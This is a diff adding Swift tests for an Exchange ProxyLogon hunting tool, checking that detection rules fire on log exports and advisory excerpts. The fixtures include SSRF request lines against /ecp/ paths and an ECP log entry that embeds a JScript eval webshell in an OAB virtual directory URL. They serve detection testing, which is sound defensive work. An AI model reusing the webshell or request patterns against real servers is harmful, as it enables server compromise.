@@ -1,0 +1,105 @@
+import ExchangeDetection
+import ExchangeEvidence
+import Foundation
+import Testing
+
+/// Evidence as responders have it (JSON event exports, Test-ProxyLogon output, advisory excerpts) must give
+/// the findings the original logs give.
+@Suite struct EvidenceShapesHuntTests {
+    static let shapes = RuleFixtures.testsDir.deletingLastPathComponent().appendingPathComponent("ExchangeEvidenceTests/Fixtures")
+    static let packageRoot = RuleFixtures.testsDir.deletingLastPathComponent().deletingLastPathComponent()
+
+    static func hunt(_ paths: [String]) throws -> [Finding] {
+        let store = EventStore()
+        for p in paths { _ = try EvidenceLoader(workers: 1).load(p, into: store) }
+        return Hunter().run(on: store).findings
+    }
+
+    /// What a finding says, without where its events were stored (file names and lines differ by shape).
+    static func essence(_ f: [Finding]) -> [String] {
+        f.map { "\($0.server) \($0.rule) \(Timestamp.iso($0.time)) \($0.summary)" }.sorted()
+    }
+
+    @Test(arguments: ["nxlog.jsonl", "winlogbeat.jsonl", "velociraptor.jsonl", "splunk.jsonl", "powershell.json", "nxlog.jsonl.gz"])
+    func jsonEventExportsFireTheEventLogRules(_ name: String) throws {
+        let findings = try Self.hunt([Self.shapes.appendingPathComponent("json/" + name).path])
+        let rules = Set(findings.map(\.rule))
+        #expect(rules.contains("proxylogon.um-deserialization"), "\(name)")
+        #expect(rules.contains("process.webserver-shell"), "\(name)")
+        // Splunk's classic text keeps the rendered message, not the event data: the UM summary quotes it instead.
+        let xml = try Self.hunt([Self.shapes.appendingPathComponent("json/events.xml").path])
+        if name != "splunk.jsonl" { #expect(Self.essence(findings) == Self.essence(xml), "\(name)") }
+    }
+
+    @Test func advisoryExcerptsWithoutHeadersFire() throws {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-excerpt-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
+        try """
+        2021-03-05 03:06:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; 443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133
+
+        """.write(to: dir.appendingPathComponent("iis.txt"), atomically: true, encoding: .utf8)
+        try """
+        2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''
+
+        """.write(to: dir.appendingPathComponent("ecp.txt"), atomically: true, encoding: .utf8)
+        try """
+        2021-03-03T06:49:46.210Z,130.255.189.21,/ecp/y.js,ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#,python-requests/2.25.1,241
+        2021-03-03T06:59:20.359Z,130.255.189.21,/ecp/y.js,ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,200
+
+        """.write(to: dir.appendingPathComponent("owa.txt"), atomically: true, encoding: .utf8)
+        let rules = Set(try Self.hunt([dir.path]).map(\.rule))
+        #expect(rules.contains("iis.webshell-access"))
+        #expect(rules.contains("proxylogon.ecp-set-vdir"))
+        #expect(rules.contains("proxylogon.ssrf"))
+        #expect(rules.contains("proxylogon.reset-vdir"))
+    }
+
+    /// `export proxylogon` then `load` of its folder: the findings Test-ProxyLogon's checks stand for come back.
+    @Test func exportProxyLogonLoadsBackToTheSameFindings() throws {
+        let original = try RuleFixtures.store("proxylogon", "hostlogs", "files")
+        let before = Hunter().run(on: original).findings
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-tpl-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        _ = try ProxyLogonExport.write(store: original, findings: before, to: dir)
+        let after = try Self.hunt([dir.path])
+        // The rules whose evidence the export carries (the script drops autodiscover and localhost rows, and
+        // keeps only the names of the ECP and OAB logs it flagged).
+        let covered: Set<String> = ["proxylogon.ssrf", "proxylogon.reset-vdir", "proxylogon.um-deserialization",
+                                    "proxylogon.oab-download", "files.lsass-dump", "files.programdata-archive"]
+        func rules(_ f: [Finding]) -> [String] { f.filter { covered.contains($0.rule) }.map { "\($0.server) \($0.rule)" }.sorted() }
+        #expect(rules(before).count >= covered.count)
+        #expect(rules(after) == rules(before))
+        // Where the export keeps all the finding rests on, the finding reads the same.
+        func summaries(_ f: [Finding], _ ids: Set<String>) -> [String] { f.filter { ids.contains($0.rule) }.map(\.summary).sorted() }
+        let same: Set<String> = ["proxylogon.reset-vdir", "proxylogon.oab-download"]
+        #expect(summaries(after, same) == summaries(before, same))
+        #expect(after.first { $0.rule == "proxylogon.um-deserialization" }?.summary.contains("System.InvalidCastException") == true)
+        #expect(Set(after.map(\.server)) == ["EX01"])
+    }
+
+    /// The training set with its event logs converted to winlogbeat JSON by `scripts/events-to-json` hunts
+    /// exactly like the original (every rule, server, time and summary).
+    @Test(arguments: ["winlogbeat", "nxlog", "velociraptor", "splunk"])
+    func trainingSetAsJSONGivesTheSameFindings(_ shape: String) throws {
+        let training = Self.packageRoot.appendingPathComponent("help/training")
+        let out = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-\(shape)-\(UUID().uuidString)")
+        defer { try? FileManager.default.removeItem(at: out) }
+        let p = Process()
+        p.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        p.arguments = ["python3", Self.packageRoot.appendingPathComponent("scripts/events-to-json").path, "--shape", shape,
+                       training.path, out.path]
+        do { try p.run() } catch {
+            print("skipped: python3 is not available (\(error))")
+            return
+        }
+        p.waitUntilExit()
+        try #require(p.terminationStatus == 0)
+        let converted = try FileManager.default.contentsOfDirectory(atPath: out.appendingPathComponent("EX01/eventlogs").path)
+        #expect(converted.allSatisfy { $0.hasSuffix(".jsonl") } && converted.count == 4)
+        let original = Self.essence(try Self.hunt([training.path]))
+        let fromJSON = Self.essence(try Self.hunt([out.path]))
+        #expect(original.count > 20)
+        #expect(fromJSON == original)
+    }
+}
